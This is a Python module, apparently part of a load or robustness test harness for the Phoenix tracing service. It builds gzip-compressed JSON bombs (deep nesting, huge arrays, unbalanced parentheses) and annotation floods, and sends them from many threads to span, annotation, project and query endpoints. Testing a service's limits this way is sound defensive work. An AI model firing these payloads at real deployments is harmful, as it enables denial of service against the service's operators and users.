"""Phoenix's JSON routes: small packed bodies that become large trees of values."""
import gzip
import itertools
import json

from . import wire
from .poison import repeat
from .target import GZIP, JSON, PROTOBUF

SPAN = {"name": "n", "span_kind": "LLM", "status_code": "OK", "start_time": "2026-11-15T08:00:00+00:00", "end_time": "2026-11-15T08:00:01+00:00"}


def span_with(attributes):
    context = {"trace_id": wire.new_trace_id().hex(), "span_id": wire.new_span_id().hex()}
    return json.dumps({"data": [{**SPAN, "context": context, "attributes": "@"}]}).replace('"@"', attributes)


def annotation_with(metadata):
    one = {"name": "n", "annotator_kind": "LLM", "span_id": "aaaaaaaaaaaaaaaa", "result": {"label": "x"}, "metadata": "@"}
    return json.dumps({"data": [one]}).replace('"@"', metadata)


def bombs(project, nodes):
    """(path, body) of each shape."""
    spans, dense = f"/v1/projects/{project}/spans", repeat("[0],", nodes)
    return [
        (spans, span_with('{"a":[' + dense + "0]}")),
        (spans, span_with('{"a":[' + repeat('{"":0},', nodes) + "0]}")),
        (spans, span_with("{" + repeat('"a":0,', nodes) + '"b":0}')),
        (spans, span_with('{"a":' + "[" * nodes + "]" * nodes + "}")),
        (spans, span_with('{"llm":{"input_messages":[' + repeat('{"message":{}},', nodes // 3) + "{}]}}")),
        (spans, '{"data":[' + repeat("{},", nodes) + "{}]}"),
        (spans, '{"data":[],"x":[' + dense + "0]}"),
        ("/v1/span_annotations", annotation_with('{"a":[' + dense + "0]}")),
        ("/v1/trace_annotations", '{"data":[' + repeat("{},", nodes) + "{}]}"),
        ("/v1/session_annotations", '{"data":[' + dense + "{}]}"),
        ("/v1/document_annotations", '{"data":[' + dense + "{}]}"),
        ("/v1/span_notes", '{"data":{"note":[' + dense + "0]}}"),
        ("/v1/projects", '{"name":"x","description":[' + dense + "0]}"),
        ("/api/v1/annotations", '{"items":[' + repeat("{},", nodes) + "{}]}"),
    ]


def attack_routes(target):
    shapes = bombs(target.project, target.sizes.nodes)
    packed = [(path, gzip.compress(body.encode(), 6)) for path, body in shapes]
    yield
    turns = itertools.count()

    def send(_):
        path, body = packed[next(turns) % len(packed)]
        target.send(path, body, {**JSON, **GZIP}, 0)

    target.run_threads(target.sizes.senders, send)


def attack_annotation_floods(target):
    """As many annotations as a request may have, each time with other names: on a span of its own, and on spans that never come.
    The limits of rows (100,000), of waiting annotations and of one transaction should hold, and senders not wait for them."""
    span_id, marker = wire.new_span_id(), "@" * 8
    row = '{{"span_id":"{}","name":"{}-{}","annotator_kind":"CODE","result":{{"score":1}}}}'
    known = "".join(["{", '"data":[', ",".join(row.format(span_id.hex(), marker, number) for number in range(target.sizes.annotation_rows)), "]}"])
    unknown = "".join(["{", '"data":[', ",".join(row.format(f"{number + 1:016x}", marker, number) for number in range(target.sizes.annotation_rows)), "]}"])
    turns = itertools.count()
    yield
    span = wire.encode_span(wire.new_trace_id(), span_id, "agent", {"openinference.span.kind": "AGENT"})
    target.send_until_taken("/v1/traces", gzip.compress(wire.encode_export([span], target.project)), {**PROTOBUF, **GZIP}, 1)

    def send(_):
        turn = next(turns)
        body = (unknown if turn % 4 == 3 else known).replace(marker, wire.new_span_id().hex()[:8]).encode()
        target.send(f"/v1/span_annotations?sync={'true' if turn % 2 else 'false'}", gzip.compress(body, 1), {**JSON, **GZIP}, 0)

    target.run_threads(2, send)


def attack_queries(target):
    """Questions that are posted: span queries with trees where names are expected."""
    nodes = target.sizes.nodes
    shapes = ['{"queries":[' + repeat("{},", nodes) + "{}]}", '{"queries":[{"select":{' + ",".join(f'"{one}":{{"key":"a"}}' for one in range(nodes // 20)) + "}}]}",
              '{"queries":[{"filter":{"condition":"' + "(" * (nodes // 2) + '"}}]}', '{"queries":[],"x":[' + repeat("[0],", nodes) + "0]}"]
    packed = [gzip.compress(one.encode(), 6) for one in shapes]
    yield
    turns = itertools.count()
    headers = {**JSON, **GZIP, **target.key_headers("read")}
    target.run_threads(target.sizes.senders, lambda _: target.request("POST", "/v1/spans?project_name=seed", packed[next(turns) % len(packed)], headers))
